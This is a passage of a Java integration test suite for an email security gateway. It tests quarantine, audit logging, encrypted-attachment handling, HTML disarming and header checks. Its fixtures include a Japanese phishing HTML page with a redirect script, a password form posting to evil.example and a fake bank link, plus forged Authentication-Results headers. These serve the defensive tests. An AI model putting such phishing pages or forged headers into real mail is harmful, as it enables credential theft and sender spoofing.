        assertThat(got.rcpts()).containsExactly("sato@example.co.jp");
    }

    @Test
    void aValidPolicyEditIsAppliedWithoutRestartAndAnInvalidOneIsNot() throws Exception {
        try {
            assertThat(smtplib("a@new.example", plainJapanese("policy-1"))).startsWith("RCPT-REFUSED 550");

            Files.writeString(POLICY, policy("example.co.jp", "new.example"), StandardCharsets.UTF_8);
            waitFor(() -> smtplibQuiet("a@new.example", plainJapanese("policy-2")).equals("SENT") ? "ok" : null);

            Files.writeString(POLICY, policy("example.co.jp", "new.example").replace("tag: 2", "tag: 2\n  bogus: 1"),
                    StandardCharsets.UTF_8);
            Thread.sleep(1500);
            assertThat(smtplib("a@new.example", plainJapanese("policy-3"))).isEqualTo("SENT");
        } finally {
            Files.writeString(POLICY, policy("example.co.jp"), StandardCharsets.UTF_8);
        }
    }

    @Test
    void prometheusEndpointCountsMessagesByDirectionAndVerdict() throws Exception {
        assertThat(smtplib("sato@example.co.jp", plainJapanese("metrics-1"))).isEqualTo("SENT");
        HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(api("/actuator/prometheus")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).containsPattern("mamori_messages_total\\{.*action=\"DELIVER\".*direction=\"inbound\".*} [1-9]")
                .contains("mamori_queue_depth")
                .containsPattern("(?m)^mamori_analyzer_overrunning(\\{[^}]*})? [0-9.]+$")
                .containsPattern("(?m)^mamori_analyzer_overruns_total(\\{[^}]*})? [0-9.]+$");
        HttpResponse<String> health = HttpClient.newHttpClient().send(HttpRequest.newBuilder(api("/actuator/health")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(health.body()).contains("\"UP\"");
    }

    @Test
    void restQueueActionsLandInTheAuditLogWhichIsSearchableAndExportableThroughTheRestApi() throws Exception {
        io.mamori.core.store.Spool spool = store.openSpool();
        try (java.io.OutputStream o = spool.output()) {
            o.write("From: a@partner.example\r\nSubject: audit-1\r\n\r\nbody\r\n".getBytes(StandardCharsets.US_ASCII));
        }
        String id = store.commit(spool, new io.mamori.core.store.NewMessage(new io.mamori.core.message.Envelope(
                io.mamori.core.message.Direction.INBOUND, "a@partner.example", List.of("audit-rcpt@example.co.jp"), "192.0.2.1",
                "h", null, false, java.time.Instant.now()), "audit-1", new io.mamori.core.analysis.Verdict(
                io.mamori.core.analysis.Action.QUARANTINE, 8, List.of()), MessageState.QUARANTINED), "").id();
        HttpClient http = HttpClient.newHttpClient();
        String token = Files.readString(DATA.resolve("api-token")).trim();

        assertThat(post(http, token, "/api/v1/messages/" + id + "/delete").statusCode()).isEqualTo(200);
        assertThat(post(http, token, "/api/v1/messages/" + id + "/release").statusCode()).as("deleted").isEqualTo(409);

        HttpResponse<String> unauthorised = http.send(HttpRequest.newBuilder(api("/api/v1/audit")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(unauthorised.statusCode()).isEqualTo(401);
        HttpResponse<String> found = get(http, token, "/api/v1/audit?object=" + id);
        assertThat(found.statusCode()).as(found.body()).isEqualTo(200);
        var json = new com.fasterxml.jackson.databind.ObjectMapper().readTree(found.body());
        assertThat(json.get("entries")).hasSize(2);
        var release = json.get("entries").get(0);
        var delete = json.get("entries").get(1);
        assertThat(delete.get("action").asText()).isEqualTo("queue.delete");
        assertThat(delete.get("actor").asText()).isEqualTo("api-token");
        assertThat(delete.get("sourceIp").asText()).isEqualTo("127.0.0.1");
        assertThat(delete.get("before").asText()).isEqualTo("QUARANTINED");
        assertThat(delete.get("after").asText()).isEqualTo("DELETED");
        assertThat(delete.get("success").asBoolean()).isTrue();
        assertThat(delete.get("hash").asText()).matches("[0-9a-f]{64}");
        assertThat(release.get("action").asText()).isEqualTo("queue.release");
        assertThat(release.get("success").asBoolean()).isFalse();
        assertThat(release.get("after").asText()).isEqualTo("refused: not allowed in state DELETED");
        assertThat(release.get("seq").asLong()).isGreaterThan(delete.get("seq").asLong());
        assertThat(json.get("nextBefore").isNull()).isTrue();

        HttpResponse<byte[]> csv = http.send(HttpRequest.newBuilder(api("/api/v1/audit.csv?action=queue.*&object=" + id))
                .header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.headers().firstValue("Content-Type").orElseThrow()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(csv.headers().firstValue("Content-Disposition").orElseThrow()).startsWith("attachment; filename=\"mamori-audit-");
        assertThat(csv.body()).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(csv.body(), StandardCharsets.UTF_8);
        assertThat(text.lines().toList()).hasSize(3);
        assertThat(text).contains(",api-token,127.0.0.1,queue.delete," + id + ",QUARANTINED,DELETED,true,");

        HttpResponse<String> exports = get(http, token, "/api/v1/audit?action=audit.export&limit=1");
        assertThat(exports.body()).contains("\"actor\":\"api-token\"").contains("object=" + id);
        HttpResponse<String> bad = get(http, token, "/api/v1/audit?since=yesterday");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(bad.body()).contains("not a time: 'yesterday'").contains("\"message_ja\":\"検索条件が正しくありません: 日時として読めません: 'yesterday'");

        assertThat(audit.verify().intact()).isTrue();
    }

    @Test
    void aNoticeSentThroughTheGatewayArrivesDownstreamWithItsSubjectAndBodyDecoded() throws Exception {
        String id = notices.accessChanged("sato@example.co.jp", "佐藤 花子", "経理部", null,
                List.of(new io.mamori.console.notice.Notices.Change("役割: 承認者 → 管理者", "Roles: approver → administrator")));

        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("(Mamori notice) id " + id), Duration.ofSeconds(30));

        assertThat(got.mailFrom()).isEqualTo("mamori-noreply@example.co.jp");
        assertThat(got.rcpts()).containsExactly("sato@example.co.jp");
        org.apache.james.mime4j.dom.Message m = org.apache.james.mime4j.dom.Message.Builder.of(
                new java.io.ByteArrayInputStream(got.data())).build();
        assertThat(m.getSubject()).isEqualTo("【テスト株式会社】メールセキュリティ管理画面の権限が変更されました / "
                + "[テスト株式会社] Your access to the mail security console has changed");
        assertThat(m.getHeader().getField("Auto-Submitted").getBody()).isEqualTo("auto-generated");
        String body;
        try (java.io.InputStream in = ((org.apache.james.mime4j.dom.TextBody) m.getBody()).getInputStream()) {
            body = new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
        assertThat(body).contains("経理部 佐藤 花子 様").contains("・役割: 承認者 → 管理者")
                .contains("Dear 佐藤 花子 (経理部)").contains("- Roles: approver → administrator").contains("https://mamori.example.co.jp/console/mfa");

        String en = notices.mfaReminder("ito@example.co.jp", "Ken Ito", "Sales", "en");
        ReceivedMessage reminder = awaitDownstream(m2 -> m2.dataAsString().contains("(Mamori notice) id " + en), Duration.ofSeconds(30));
        org.apache.james.mime4j.dom.Message r = org.apache.james.mime4j.dom.Message.Builder.of(
                new java.io.ByteArrayInputStream(reminder.data())).build();
        assertThat(r.getSubject()).isEqualTo("[テスト株式会社] Please set up multi-factor authentication (MFA)");
        waitFor(() -> store.find(en).filter(x -> x.state() == MessageState.DELIVERED).orElse(null));
    }

    private HttpResponse<String> post(HttpClient http, String token, String path) throws Exception {
        return http.send(HttpRequest.newBuilder(api(path)).header("Authorization", "Bearer " + token)
                .POST(HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString());
    }

    private HttpResponse<String> get(HttpClient http, String token, String path) throws Exception {
        return http.send(HttpRequest.newBuilder(api(path)).header("Authorization", "Bearer " + token).build(),
                HttpResponse.BodyHandlers.ofString());
    }

    private String smtplibQuiet(String rcpt, byte[] data) {
        try {
            return smtplib(rcpt, data);
        } catch (Exception e) {
            return "error";
        }
    }

    private URI api(String path) {
        return URI.create("http://127.0.0.1:" + httpPort + path);
    }

    static <T> T waitFor(java.util.function.Supplier<T> probe) throws InterruptedException {
        long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
        while (System.nanoTime() < deadline) {
            T value = probe.get();
            if (value != null) {
                return value;
            }
            Thread.sleep(100);
        }
        throw new AssertionError("condition not met within 20 s");
    }

    // ---- disarm, attachment strip, forged Authentication-Results ---------------------------------------------

    /** Runs {@code body} with {@code extra} appended to the test policy, and puts the plain policy back after. */
    private void withPolicy(String extra, java.util.function.Predicate<io.mamori.core.policy.Policy> applied,
            ThrowingRunnable body) throws Exception {
        try {
            Files.writeString(POLICY, policy("example.co.jp") + extra, StandardCharsets.UTF_8);
            waitFor(() -> applied.test(policyHolder.current()) ? "applied" : null);
            body.run();
        } finally {
            Files.writeString(POLICY, policy("example.co.jp"), StandardCharsets.UTF_8);
            waitFor(() -> policyHolder.current().disarm().equals(io.mamori.core.policy.Policy.Disarm.DEFAULT)
                    && policyHolder.current().attachments().equals(io.mamori.core.policy.Policy.Attachments.DEFAULT)
                    && policyHolder.current().blocklists().isEmpty()
                    && policyHolder.current().sendAs().equals(io.mamori.core.policy.Policy.SendAs.NONE)
                    ? "restored" : null);
        }
    }

    interface ThrowingRunnable {
        void run() throws Exception;
    }

    private static io.mamori.core.message.ParsedMessage parsed(ReceivedMessage m) throws IOException {
        io.mamori.core.message.ParsedMessage p = new io.mamori.core.message.MessageParser()
                .parse(new java.io.ByteArrayInputStream(m.data()));
        p.close();
        return p;
    }

    @Test
    void encryptedZipIsStrippedOnTheWayAndItsQuarantinedOriginalArrivesWhenReleased() throws Exception {
        byte[] zip;
        try (var in = GatewayEndToEndTest.class.getResourceAsStream("/files/zip4j/store_compression_made_with_v1.3.3.zip")) {
            zip = in.readAllBytes();
        }
        String zipBase64 = java.util.Base64.getMimeEncoder().encodeToString(zip);
        // message() sends the string's chars as bytes, so the UTF-8 text goes in as its bytes.
        String text = new String("見積書を送ります strip-1".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
        String body = "--S1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + text + "\r\n"
                + "--S1\r\nContent-Type: application/zip; name=\"mitsumori.zip\"\r\n"
                + "Content-Disposition: attachment; filename=\"mitsumori.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + zipBase64 + "\r\n--S1--\r\n";
        byte[] sent = message("strip-1", "quote", "Content-Type: multipart/mixed; boundary=\"S1\"\r\n", body);

        withPolicy("attachments:\n  encrypted: strip\n",
                p -> p.attachments().encrypted() == io.mamori.core.policy.Policy.Attachments.Handling.STRIP, () -> {
                    assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");

                    ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("strip-1@partner.example"),
                            Duration.ofSeconds(30));
                    String delivered = got.dataAsString();
                    var verdict = Pattern.compile("X-Mamori-Verdict: TAG; [^\r\n]*findings=ENCRYPTED_ARCHIVE; stripped=1;"
                            + " original=([0-9A-Z]{26})\r\n").matcher(delivered);
                    assertThat(verdict.find()).as(delivered).isTrue();
                    String originalId = verdict.group(1);
                    assertThat(delivered).doesNotContain(zipBase64.substring(0, 60));
                    var message = parsed(got);
                    assertThat(message.attachments()).isEmpty();
                    assertThat(message.parts()).extracting(io.mamori.core.message.MimePart::contentType)
                            .containsExactly("text/plain", "text/plain");
                    assertThat(message.parts().get(0).text()).contains("見積書を送ります strip-1");
                    assertThat(message.parts().get(1).text())
                            .contains("添付ファイル「mitsumori.zip」は安全のため削除されました")
                            .contains("パスワード付き（暗号化された）ファイル")
                            .contains("元のメールは隔離して保管されています（ID: " + originalId + "）")
                            .contains("The attachment \"mitsumori.zip\" was removed");

                    StoredMessage original = store.find(originalId).orElseThrow();
                    assertThat(original.state()).isEqualTo(MessageState.QUARANTINED);
                    assertThat(original.findingCodes()).isEqualTo("ENCRYPTED_ARCHIVE");
                    String token = Files.readString(DATA.resolve("api-token")).trim();
                    HttpResponse<String> released = HttpClient.newHttpClient().send(
                            HttpRequest.newBuilder(api("/api/v1/messages/" + originalId + "/release"))
                                    .header("Authorization", "Bearer " + token).POST(HttpRequest.BodyPublishers.noBody()).build(),
                            HttpResponse.BodyHandlers.ofString());
                    assertThat(released.statusCode()).as(released.body()).isEqualTo(200);

                    ReceivedMessage releasedCopy = awaitDownstream(m -> m.dataAsString().contains("strip-1@partner.example"),
                            Duration.ofSeconds(30));
                    assertThat(releasedCopy.dataAsString()).contains("X-Mamori-Verdict: QUARANTINE;").contains("stripped-copy=")
                            .contains(zipBase64.substring(0, 60));
                    assertThat(parsed(releasedCopy).attachments()).extracting(io.mamori.core.message.MimePart::filename)
                            .containsExactly("mitsumori.zip");
                });
    }

    /** A multipart body (boundary P1) with a line naming {@code marker} and the zip attached. */
    private static String ppapMail(String zipBase64, String marker) {
        return "--P1\r\nContent-Type: text/plain; charset=US-ASCII\r\n\r\nThe quote is attached. " + marker + "\r\n"
                + "--P1\r\nContent-Type: application/zip; name=\"mitsumori.zip\"\r\n"
                + "Content-Disposition: attachment; filename=\"mitsumori.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + zipBase64 + "\r\n--P1--\r\n";
    }

    private HttpResponse<String> open(HttpClient http, String token, String id, String jsonBody) throws Exception {
        return http.send(HttpRequest.newBuilder(api("/api/v1/messages/" + id + "/open")).header("Authorization", "Bearer " + token)
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(jsonBody)).build(),
                HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void anAnalystOpensAQuarantinedZipWithThePasswordTheSenderGaveByTelephoneThroughTheRestApi() throws Exception {
        String zipBase64 = EncryptedZips.base64("Denwa-2025");
        HttpClient http = HttpClient.newHttpClient();
        String token = Files.readString(DATA.resolve("api-token")).trim();
        var json = new com.fasterxml.jackson.databind.ObjectMapper();

        // the shipped handling: opened encrypted attachments stay quarantined, now with what is inside
        assertThat(smtplib("sato@example.co.jp", message("ppap-3", "quote-3",
                "Content-Type: multipart/mixed; boundary=\"P1\"\r\n", ppapMail(zipBase64, "ppap-3")))).isEqualTo("SENT");
        StoredMessage first = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
                .filter(m -> "quote-3".equals(m.subject())).findFirst().orElse(null));
        assertThat(open(http, token, first.id(), "{\"password\":\"\"}").statusCode()).isEqualTo(400);
        HttpResponse<String> wrong = open(http, token, first.id(), "{\"password\":\"Wrong-2025\"}");
        assertThat(wrong.statusCode()).as(wrong.body()).isEqualTo(200);
        assertThat(json.readTree(wrong.body()).get("outcome").asText()).isEqualTo("NOT_OPENED");
        HttpResponse<String> kept = open(http, token, first.id(), "{\"password\":\"Denwa-2025\"}");
        assertThat(kept.statusCode()).as(kept.body()).isEqualTo(200);
        var keptJson = json.readTree(kept.body());
        assertThat(keptJson.get("outcome").asText()).isEqualTo("KEPT");
        assertThat(keptJson.get("message").get("reasons").toString()).contains("ENCRYPTED_ARCHIVE_OPENED")
                .contains("ARCHIVE_PASSWORD_FROM_ANALYST").contains("管理者が入力したパスワード");
        assertThat(store.find(first.id()).orElseThrow().findingCodes())
                .isEqualTo("ENCRYPTED_ARCHIVE_OPENED,ARCHIVE_PASSWORD_FROM_ANALYST");

        // audited with the outcome, never with the password
        HttpResponse<String> trail = get(http, token, "/api/v1/audit?object=" + first.id());
        assertThat(trail.body()).contains("quarantine.open-with-password").contains("NOT_OPENED").contains("KEPT")
                .doesNotContain("Denwa-2025").doesNotContain("Wrong-2025");

        // an organisation that lets the opened content decide: the clean quote is committed again and delivered
        withPolicy("attachments:\n  opened: score\n",
                p -> p.attachments().opened() == io.mamori.core.policy.Policy.Attachments.Handling.SCORE, () -> {
                    assertThat(smtplib("sato@example.co.jp", message("ppap-4", "quote-4",
                            "Content-Type: multipart/mixed; boundary=\"P1\"\r\n", ppapMail(zipBase64, "ppap-4"))))
                            .isEqualTo("SENT");
                    StoredMessage second = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
                            .filter(m -> "quote-4".equals(m.subject())).findFirst().orElse(null));
                    HttpResponse<String> opened = open(http, token, second.id(), "{\"password\":\"Denwa-2025\"}");
                    assertThat(opened.statusCode()).as(opened.body()).isEqualTo(200);
                    var openedJson = json.readTree(opened.body());
                    assertThat(openedJson.get("outcome").asText()).isEqualTo("COMMITTED_AGAIN");
                    String again = openedJson.get("committedAs").asText();
                    ReceivedMessage delivered = awaitDownstream(m -> m.dataAsString().contains("ppap-4@partner.example"),
                            Duration.ofSeconds(30));
                    assertThat(delivered.dataAsString()).contains("; password=analyst; reassessed=" + second.id() + "\r\n")
                            .doesNotContain("Denwa-2025").contains(zipBase64.substring(0, 60));
                    assertThat(store.find(again).orElseThrow().findingCodes()).contains("ARCHIVE_PASSWORD_FROM_ANALYST");
                    assertThat(store.find(second.id()).orElseThrow().state()).isEqualTo(MessageState.DELETED);
                    assertThat(open(http, token, second.id(), "{\"password\":\"Denwa-2025\"}").statusCode())
                            .as("no longer quarantined").isEqualTo(409);
                });
    }

    @Test
    void aZipQuarantinedForItsPasswordIsOpenedByTheSendersPasswordMailAndDeliveredWhenItsContentDecides() throws Exception {
        // PPAP's パスワード別送 through the gateway's own wiring: the password mail is accepted first, and the
        // quarantined zip is opened on the password-mail thread afterwards
        String zipBase64 = EncryptedZips.base64("Mitsumori-77");
        String zipMail = ppapMail(zipBase64, "ppap-1");
        String passwordText = new String("先ほどのファイルのパスワード：Mitsumori-77\r\nppap-2\r\n".getBytes(StandardCharsets.UTF_8),
                StandardCharsets.ISO_8859_1);

        withPolicy("attachments:\n  opened: score\n",
                p -> p.attachments().opened() == io.mamori.core.policy.Policy.Attachments.Handling.SCORE, () -> {
                    assertThat(smtplib("sato@example.co.jp", message("ppap-1", "quote",
                            "Content-Type: multipart/mixed; boundary=\"P1\"\r\n", zipMail))).isEqualTo("SENT");
                    StoredMessage quarantined = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
                            .filter(m -> "quote".equals(m.subject()) && m.findingCodes().contains("ENCRYPTED_ARCHIVE"))
                            .findFirst().orElse(null));

                    assertThat(smtplib("sato@example.co.jp", message("ppap-2", "password",
                            "Content-Type: text/plain; charset=UTF-8\r\n", passwordText))).isEqualTo("SENT");

                    ReceivedMessage opened = awaitDownstream(m -> m.dataAsString().contains("ppap-1@partner.example"),
                            Duration.ofSeconds(30));
                    String delivered = opened.dataAsString();
                    var verdict = Pattern.compile("X-Mamori-Verdict: TAG; [^\r\n]*ENCRYPTED_ARCHIVE_OPENED,(?:\r\n\t)?"
                            + "ARCHIVE_PASSWORD_SENT_SEPARATELY[^\r\n]*; password-mail=([0-9A-Z]{26}); reassessed="
                            + quarantined.id() + "\r\n").matcher(delivered);
                    assertThat(verdict.find()).as(delivered).isTrue();
                    assertThat(delivered).contains(zipBase64.substring(0, 60));
                    assertThat(store.find(verdict.group(1)).orElseThrow().subject()).isEqualTo("password");
                    // deleted just after its re-judged copy was committed (which may already have been delivered)
                    assertThat(waitFor(() -> store.find(quarantined.id()).orElseThrow().state() == MessageState.DELETED
                            ? "deleted" : null)).isEqualTo("deleted");
                    awaitDownstream(m -> m.dataAsString().contains("ppap-2"), Duration.ofSeconds(30));
                });
    }

    @Test
    void aPasswordMailThatOvertookItsZipOpensTheZipWhenItIsQuarantined() throws Exception {
        // both mails of PPAP sent at once: the password mail is accepted first, then the zip, which is opened with the
        // earlier mail's password as soon as it is quarantined
        String zipBase64 = EncryptedZips.base64("Mitsumori-88");
        String passwordText = new String("添付ファイルのパスワード：Mitsumori-88\r\nppap-4\r\n".getBytes(StandardCharsets.UTF_8),
                StandardCharsets.ISO_8859_1);

        withPolicy("attachments:\n  opened: score\n",
                p -> p.attachments().opened() == io.mamori.core.policy.Policy.Attachments.Handling.SCORE, () -> {
                    assertThat(smtplib("sato@example.co.jp", message("ppap-4", "password-first",
                            "Content-Type: text/plain; charset=UTF-8\r\n", passwordText))).isEqualTo("SENT");
                    awaitDownstream(m -> m.dataAsString().contains("ppap-4"), Duration.ofSeconds(30));
                    assertThat(smtplib("sato@example.co.jp", message("ppap-3", "quote-second",
                            "Content-Type: multipart/mixed; boundary=\"P1\"\r\n", ppapMail(zipBase64, "ppap-3"))))
                            .isEqualTo("SENT");

                    ReceivedMessage opened = awaitDownstream(m -> m.dataAsString().contains("ppap-3@partner.example"),
                            Duration.ofSeconds(30));
                    var verdict = Pattern.compile("X-Mamori-Verdict: TAG; [^\r\n]*ENCRYPTED_ARCHIVE_OPENED,(?:\r\n\t)?"
                            + "ARCHIVE_PASSWORD_SENT_SEPARATELY[^\r\n]*; password-mail=([0-9A-Z]{26}); reassessed=([0-9A-Z]{26})\r\n")
                            .matcher(opened.dataAsString());
                    assertThat(verdict.find()).as(opened.dataAsString()).isTrue();
                    assertThat(store.find(verdict.group(1)).orElseThrow().subject()).isEqualTo("password-first");
                    StoredMessage quarantined = store.find(verdict.group(2)).orElseThrow();
                    assertThat(quarantined.subject()).isEqualTo("quote-second");
                    assertThat(waitFor(() -> store.find(quarantined.id()).orElseThrow().state() == MessageState.DELETED
                            ? "deleted" : null)).isEqualTo("deleted");
                });
    }

    @Test
    void japaneseHtmlPhishingIsDisarmedOnTheWay() throws Exception {
        String html = "<html><head><script>location='http://evil.example/'</script></head><body onload=\"steal()\">"
                + "<p>お客様のアカウントは停止されました。<a href=\"https://login.example-bank.co/verify\">こちら</a>から"
                + "本人確認してください。</p><img src=\"http://track.example/p.gif\"><form action=\"https://evil.example/p\">"
                + "<input type=password name=pw></form> disarm-1</body></html>\r\n";
        String body = new String(html.getBytes("ISO-2022-JP"), StandardCharsets.ISO_8859_1);
        byte[] sent = message("disarm-1", "=?ISO-2022-JP?B?GyRCPUVNVxsoQg==?=",
                "Content-Type: text/html; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n", body);

        withPolicy("disarm:\n  enabled: true\n", p -> p.disarm().enabled(), () -> {
            assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");

            ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("disarm-1@partner.example"),
                    Duration.ofSeconds(30));
            assertThat(got.dataAsString()).containsPattern("X-Mamori-Verdict: [A-Z]+; " + FOLDED + "*; disarmed=1\r\n")
                    .contains("Content-Type: text/html; charset=utf-8");
            String disarmed = parsed(got).parts().get(0).text();
            assertThat(disarmed).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<form")
                    .doesNotContainIgnoringCase("<input").doesNotContainIgnoringCase("onload")
                    .doesNotContain("track.example").doesNotContainIgnoringCase("href=")
                    .contains("お客様のアカウントは停止されました。こちら [hxxps://login[.]example-bank[.]co/verify]から本人確認してください。")
                    .contains("このメールは安全のため無害化されました");
        });
    }

    @Test
    void forgedAuthenticationResultsClaimingThisGatewayAreRemovedAndOthersKept() throws Exception {
        String forged = "Authentication-Results: mamori.test; spf=pass smtp.mailfrom=bank.example;\r\n"
                + "\tdkim=pass header.d=bank.example; dmarc=pass header.from=bank.example\r\n";
        String theirs = "Authentication-Results: mx.partner.example; spf=pass smtp.mailfrom=partner.example\r\n";
        byte[] clean = plainJapanese("authres-1");
        byte[] sent = (forged + theirs + new String(clean, StandardCharsets.ISO_8859_1)).getBytes(StandardCharsets.ISO_8859_1);

        assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");

        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("authres-1"), Duration.ofSeconds(30));
        String text = new String(got.data(), StandardCharsets.ISO_8859_1);
        var added = Pattern.compile("Received: from [^\r\n]+\r\n\tby mamori\\.test \\(Mamori\\) with ESMTP id [0-9A-Z]{26}\r\n"
                + "\tfor <[^>]+>; [^\r\n]+\r\n"
                + "Authentication-Results: mamori\\.test; spf=none " + FOLDED + "+\r\n"
                + "X-Mamori-Verdict: DELIVER; score=0\\.00; findings=none; forged-authres-removed=1\r\n").matcher(text);
        assertThat(added.lookingAt()).as(text).isTrue();
        assertThat(text.substring(added.end())).as("the sender's bytes without the forged field, byte for byte")
                .isEqualTo(theirs + new String(clean, StandardCharsets.ISO_8859_1));
    }

    private HttpResponse<String> api(String method, String path, String json) throws Exception {
        String token = Files.readString(DATA.resolve("api-token")).trim();
        HttpRequest.Builder b = HttpRequest.newBuilder(api(path)).header("Authorization", "Bearer " + token);
        b = json == null ? b.method(method, HttpRequest.BodyPublishers.noBody())
                : b.header("Content-Type", "application/json").method(method, HttpRequest.BodyPublishers.ofString(json));
        return HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static byte[] fromBlockedSender(String marker, String fromAddress) {
        return ("From: Offers <" + fromAddress + ">\r\nTo: sato@example.co.jp\r\nSubject: " + marker + "\r\n"
                + "Message-ID: <" + marker + "@blocked.example>\r\nDate: Sat, 28 Nov 2026 10:00:00 +0900\r\n"
                + "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + marker + "\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    @Test
    void aBlockedSendersMessageIsReleasedOnAnEmployeesRequestApprovedThroughTheRestApi() throws Exception {
        com.fasterxml.jackson.databind.ObjectMapper json = new com.fasterxml.jackson.databind.ObjectMapper();
        assertThat(smtplib("sato@example.co.jp", fromBlockedSender("request-1", "offers@news.blocked.example")))
                .isEqualTo("SENT");
        StoredMessage q = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
                .filter(m -> m.subject().equals("request-1")).findFirst().orElse(null));
        assertThat(q.findingCodes().split(",")).contains("SENDER_BLOCKED");

        HttpResponse<String> listed = api("GET", "/api/v1/quarantine?state=QUARANTINED", null);
        assertThat(listed.statusCode()).isEqualTo(200);
        assertThat(json.readTree(listed.body())).anySatisfy(m -> {
            assertThat(m.get("id").asText()).isEqualTo(q.id());
            assertThat(m.get("reasons")).anySatisfy(r -> {
                assertThat(r.get("code").asText()).isEqualTo("SENDER_BLOCKED");
                assertThat(r.get("reasonJa").asText()).contains("受信拒否リスト");
                assertThat(r.get("reasonEn").asText()).isEqualTo("The sender is on a block list");
            });
        });

        HttpResponse<String> stranger = api("POST", "/api/v1/quarantine/" + q.id() + "/requests",
                "{\"requester\": \"tanaka@example.co.jp\", \"comment\": \"見せてください\"}");
        assertThat(stranger.statusCode()).as(stranger.body()).isEqualTo(403);
        assertThat(json.readTree(stranger.body()).get("message").asText()).contains("not a recipient");

        HttpResponse<String> created = api("POST", "/api/v1/quarantine/" + q.id() + "/requests",
                "{\"requester\": \"sato@example.co.jp\", \"comment\": \"取引先からの案内です\"}");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        long requestId = json.readTree(created.body()).get("id").asLong();

        HttpResponse<String> pending = api("GET", "/api/v1/quarantine/requests?status=PENDING", null);
        assertThat(json.readTree(pending.body())).anySatisfy(r -> {
            assertThat(r.get("request").get("id").asLong()).isEqualTo(requestId);
            assertThat(r.get("request").get("comment").asText()).isEqualTo("取引先からの案内です");
            assertThat(r.get("message").get("id").asText()).isEqualTo(q.id());
        });
        Thread.sleep(300);
        assertThat(UNCLAIMED).noneMatch(m -> m.dataAsString().contains("request-1"));

        HttpResponse<String> approved = api("POST", "/api/v1/quarantine/requests/" + requestId + "/approve",
                "{\"comment\": \"確認しました\"}");
        assertThat(approved.statusCode()).as(approved.body()).isEqualTo(200);
        assertThat(json.readTree(approved.body()).get("status").asText()).isEqualTo("APPROVED");

        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("request-1@blocked.example"), Duration.ofSeconds(30));
        assertThat(got.rcpts()).containsExactly("sato@example.co.jp");
        assertThat(got.dataAsString()).containsPattern("X-Mamori-Verdict: QUARANTINE; score=[0-9.]+; findings=(?:[A-Z_]|,(?:\r\n\t)?)*SENDER_BLOCKED");
        assertThat(api("POST", "/api/v1/quarantine/requests/" + requestId + "/approve", null).statusCode())
                .as("decided once").isEqualTo(409);

        java.util.List<io.mamori.console.audit.AuditRecord> entries = audit.search(
                new io.mamori.console.audit.AuditFilter("api-token", "quarantine.*", null, null, null), null, 500).entries();
        assertThat(entries)
                .anySatisfy(e -> assertThat(e).extracting("action", "object", "success", "sourceIp")
                        .containsExactly("quarantine.request.create", q.id() + " requester=tanaka@example.co.jp", false, "127.0.0.1"))
                .anySatisfy(e -> assertThat(e).extracting("action", "object", "success")
                        .containsExactly("quarantine.request.create", q.id() + " requester=sato@example.co.jp", true))
                .anySatisfy(e -> assertThat(e).extracting("action", "object", "success", "after")
                        .containsExactly("quarantine.request.approve", "request #" + requestId, true,
                                "message " + q.id() + " QUARANTINED -> QUEUED"))
                .anySatisfy(e -> assertThat(e.action()).isEqualTo("quarantine.list"));
    }

    @Test
    void aBlockEntryAddedThroughTheRestApiQuarantinesTheNextMessageAndBulkReleaseFreesIt() throws Exception {
        com.fasterxml.jackson.databind.ObjectMapper json = new com.fasterxml.jackson.databind.ObjectMapper();
        HttpResponse<String> added = api("POST", "/api/v1/lists/block",
                "{\"value\": \"Campaign.example\", \"user\": \"kato@example.co.jp\", \"comment\": \"asked by Kato\"}");
        assertThat(added.statusCode()).as(added.body()).isEqualTo(201);
        long entry = json.readTree(added.body()).get("id").asLong();
        assertThat(api("POST", "/api/v1/lists/block", "{\"value\": \"campaign.example\", \"user\": \"kato@example.co.jp\"}")
                .statusCode()).isEqualTo(409);
        assertThat(api("POST", "/api/v1/lists/block", "{\"value\": \"jp\"}").statusCode()).isEqualTo(400);
        try {
            assertThat(smtplib("kato@example.co.jp", fromBlockedSender("per-user-1", "news@campaign.example"))).isEqualTo("SENT");
            assertThat(smtplib("sato@example.co.jp", fromBlockedSender("per-user-2", "news@campaign.example"))).isEqualTo("SENT");

            StoredMessage q = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
                    .filter(m -> m.subject().equals("per-user-1")).findFirst().orElse(null));
            assertThat(q.findingCodes().split(",")).contains("SENDER_BLOCKED");
